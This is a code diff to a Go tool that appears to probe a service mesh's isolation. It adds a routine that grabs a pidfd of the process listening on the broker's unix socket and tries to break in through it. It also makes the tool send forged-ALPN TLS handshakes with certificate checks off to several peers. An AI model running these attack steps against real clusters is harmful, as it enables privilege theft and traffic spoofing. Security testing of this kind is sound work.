@@ -6,6 +6,7 @@ import (
 	"errors"
 	"fmt"
 	"net"
+	"strings"
 	"time"
 
 	"golang.org/x/sys/unix"
@@ -33,6 +34,32 @@ func askBroker(target) {
 		}
 	}
 	ask()
+	robBroker()
+}
+
+// robBroker gets a pidfd of whoever listens at the broker's name and tries to get
+// in by it.
+func robBroker() {
+	c, err := net.DialUnix("unixpacket", nil, &net.UnixAddr{Name: handover.Address, Net: "unixpacket"})
+	tried("connect to the broker", err)
+	if err != nil {
+		return
+	}
+	defer c.Close()
+	raw, err := c.SyscallConn()
+	if err != nil {
+		tried("its socket", err)
+		return
+	}
+	_ = raw.Control(func(fd uintptr) {
+		pidfd, err := unix.GetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_PEERPIDFD)
+		tried("pidfd of the broker", err)
+		if err != nil {
+			return
+		}
+		defer unix.Close(pidfd)
+		rob(pidfd, "the broker")
+	})
 }
 
 func ask() bool {
@@ -64,11 +91,20 @@ func squat(target) {
 			l.Close()
 		}
 		_ = unix.Unshare(unix.CLONE_NEWPID)
+		time.Sleep(time.Millisecond)
 	}
 }
 
-// forgedALPN offers the mesh's own protocol without a certificate of it.
+// forgedALPN offers the mesh's own protocol without a certificate of it, to a
+// server that echoes. From a meshed pod this is the app's own TLS and travels as
+// bytes, inside mTLS; from elsewhere it must end at the server's sidecar.
 func forgedALPN(t target) {
+	for _, peer := range t.peers {
+		forgeTo(peer, t.marker)
+	}
+}
+
+func forgeTo(peer, marker string) {
 	for _, c := range []struct{ sni, alpn string }{
 		{"web.default.sa.cluster.local", hop.ALPNRequests},
 		{"web.default.sa.cluster.local", hop.ALPNBytes},
@@ -77,20 +113,23 @@ func forgedALPN(t target) {
 		{"x", hop.ALPNFamily},
 	} {
 		d := &net.Dialer{Timeout: 2 * time.Second}
-		conn, err := d.Dial("tcp", t.peer)
+		conn, err := d.Dial("tcp", peer)
 		if err != nil {
-			tried("connect "+t.peer, err)
+			tried("connect "+peer, err)
 			continue
 		}
 		_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
 		tc := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, ServerName: c.sni, NextProtos: []string{c.alpn}})
 		err = tc.Handshake()
 		if err == nil {
-			_, _ = tc.Write([]byte(t.marker))
+			_, _ = tc.Write([]byte(marker))
 			// TLS 1.3 tells a client about a refused certificate with its first read.
 			_, err = tc.Read(make([]byte, 1))
 		}
-		tried(fmt.Sprintf("SNI %s ALPN %s", c.sni, c.alpn), err)
+		tried(fmt.Sprintf("%s SNI %s ALPN %s", peer, c.sni, c.alpn), err)
+		if err != nil && strings.Contains(err.Error(), "clientHelloMsg") {
+			fmt.Printf("ECHO of the ClientHello by the app behind %s\n", peer)
+		}
 		if err == nil {
 			got("an answer as %s", c.alpn)
 		}
